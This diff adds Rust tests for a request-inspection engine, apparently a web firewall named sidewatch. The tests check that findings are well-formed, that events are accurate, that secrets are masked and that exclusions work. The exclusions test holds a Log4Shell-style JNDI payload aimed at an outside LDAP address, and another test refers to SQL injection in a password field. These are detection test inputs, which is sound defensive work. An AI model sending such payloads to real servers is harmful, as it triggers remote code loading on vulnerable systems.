@@ -1,0 +1,139 @@
+//! Explainable and private: every finding of every case says where, how, what and why; secrets are never shown.
+
+mod engine;
+
+use engine::{label, requests, through_transaction};
+use sidewatch::decode;
+use sidewatch::detect::Class;
+use sidewatch::http::{Messages, Version};
+use sidewatch::{Engine, Policy, Verdict};
+
+/// Formats and readings that may stand where a decoder does.
+const READINGS: &[&str] = &["json", "pollution", "concat"];
+
+#[test]
+fn every_finding_explains_itself() {
+    let engine = Engine::default();
+    let mut transaction = engine.transaction();
+    let mut number = 0;
+    for case in requests() {
+        for finding in through_transaction(&mut transaction, &[&case.bytes()]).findings {
+            let name = format!("{}: {finding:#?}", case.name);
+            number += 1;
+            let part = finding.point.split(['.', '|', '[', '#']).next().unwrap_or_default();
+            let parts = ["method", "target", "path", "query", "header", "cookie", "body", "raw"];
+            assert!(parts.contains(&part), "{name}");
+            for decoder in finding.decoders() {
+                let known = decode::Decoder::from_name(decoder).is_some() || READINGS.contains(&decoder);
+                assert!(known, "{name}");
+            }
+            let kebab = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-';
+            let technique = finding.technique;
+            assert!(
+                technique.len() >= 3 && technique.chars().all(kebab) && !technique.contains("--"),
+                "{name}"
+            );
+            assert!(
+                technique.starts_with(|c: char| c.is_ascii_lowercase()) && !technique.ends_with('-'),
+                "{name}"
+            );
+            assert!((1..=100).contains(&finding.confidence) && finding.length > 0, "{name}");
+            assert!(!finding.excerpt.is_empty(), "{name}");
+            let shown = finding.excerpt.chars().count();
+            assert!(shown <= 4 * engine.policy().limits.excerpt + 2, "{name}: {shown} characters");
+            assert!(!finding.excerpt.chars().any(char::is_control), "{name}");
+            let words = finding.reason.split_whitespace().count();
+            assert!((4..=60).contains(&words) && finding.reason.len() <= 400, "{name}: {words} words");
+            assert!(!finding.reason.chars().any(char::is_control), "{name}");
+            assert!(Class::from_name(finding.class.name()) == Some(finding.class), "{name}");
+        }
+    }
+    assert!(number > 30, "only {number} findings");
+}
+
+#[test]
+fn events_say_what_the_transaction_says() {
+    let mut transaction = Engine::default().transaction();
+    for case in requests() {
+        let told = through_transaction(&mut transaction, &[&case.bytes()]);
+        let event: serde_json::Value = serde_json::from_str(&told.json).expect("an event is JSON");
+        assert!(!told.json.contains('\n'), "{}: an event is one line", case.name);
+        assert_eq!(event["schema"], "sidewatch.event/1");
+        assert_eq!(event["verdict"], told.verdict.name(), "{}", case.name);
+        let findings = event["findings"].as_array().expect("a list");
+        assert_eq!(findings.len(), told.findings.len(), "{}", case.name);
+        for (shown, finding) in findings.iter().zip(&told.findings) {
+            assert_eq!(shown["class"], finding.class.name());
+            assert_eq!(shown["technique"], finding.technique);
+            assert_eq!(shown["point"], finding.point);
+            assert_eq!(shown["offset"], finding.offset);
+            assert_eq!(shown["confidence"], finding.confidence);
+            assert_eq!(shown["excerpt"], finding.excerpt);
+            assert_eq!(shown["reason"], *finding.reason);
+            let decoders: Vec<&str> =
+                shown["decoders"].as_array().expect("a list").iter().filter_map(|d| d.as_str()).collect();
+            assert_eq!(decoders, finding.decoders().collect::<Vec<_>>());
+        }
+        let classes: Vec<&str> =
+            event["classes"].as_array().expect("a list").iter().filter_map(|c| c.as_str()).collect();
+        assert!(classes.is_sorted() && told.findings.iter().all(|f| classes.contains(&f.class.name())));
+        let anomalies: Vec<&str> =
+            event["anomalies"].as_array().expect("a list").iter().filter_map(|a| a.as_str()).collect();
+        assert_eq!(anomalies, told.anomalies);
+    }
+}
+
+#[test]
+fn secrets_are_shown_nowhere() {
+    let open = Engine::new(Policy::from_toml("[masking]\nenabled = false").expect("a policy"));
+    let (mut masked, mut bare) = (Engine::default().transaction(), open.transaction());
+    let (mut seen, mut kept) = (0, 0);
+    for case in requests() {
+        let bytes = case.bytes();
+        let told = through_transaction(&mut masked, &[&bytes]);
+        let debug = format!("{:?}", told.findings);
+        let unmasked = through_transaction(&mut bare, &[&bytes]).json;
+        for secret in &case.secrets {
+            assert!(bytes.windows(secret.len()).any(|w| w == secret.as_bytes()), "{}: {secret}", case.name);
+            assert!(!told.json.contains(secret.as_str()), "{}: {secret} in {}", case.name, told.json);
+            assert!(!debug.contains(secret.as_str()), "{}: {secret} in {debug}", case.name);
+            seen += usize::from(unmasked.contains(secret.as_str()));
+            kept += 1;
+        }
+    }
+    // Without masking most of them would be shown: the cases do test it.
+    assert!(kept >= 8 && seen * 2 >= kept, "{seen} of {kept} would have been shown");
+}
+
+#[test]
+fn an_attack_at_a_secret_keeps_its_shape() {
+    let mut transaction = Engine::default().transaction();
+    for case in requests().iter().filter(|case| case.name == "password with SQL") {
+        let told = through_transaction(&mut transaction, &[&case.bytes()]);
+        let finding = told.findings.iter().find(|f| label(f) == "sqli body.form.password").expect("found");
+        assert!(finding.excerpt.contains('\'') && finding.excerpt.contains('*'), "{}", finding.excerpt);
+        assert!(!finding.excerpt.contains(|c: char| c.is_ascii_alphanumeric()), "{}", finding.excerpt);
+    }
+}
+
+#[test]
+fn exclusions_hold_for_every_part_of_a_request() {
+    let policy = "[[exclusions]]\nclasses = [\"rce\"]\npoint = \"*.note\"\nhost = \"a.example\"";
+    let engine = Engine::new(Policy::from_toml(policy).expect("a policy"));
+    let run = |field: &str| {
+        let mut transaction = engine.transaction();
+        transaction.request_line(
+            b"POST",
+            format!("/?{field}=${{jndi:ldap://198.51.100.7/o}}").as_bytes(),
+            Version::Http11,
+        );
+        transaction.request_header(b"Host", b"a.example");
+        transaction.request_header(b"Content-Type", b"application/json");
+        transaction.request_head_end();
+        transaction.request_body(format!("{{\"{field}\":\"${{jndi:ldap://198.51.100.7/o}}\"}}").as_bytes());
+        transaction.request_end();
+        (transaction.verdict(), transaction.findings().len())
+    };
+    assert_eq!(run("note"), (Verdict::Pass, 0));
+    assert_eq!(run("other"), (Verdict::Attack, 2));
+}
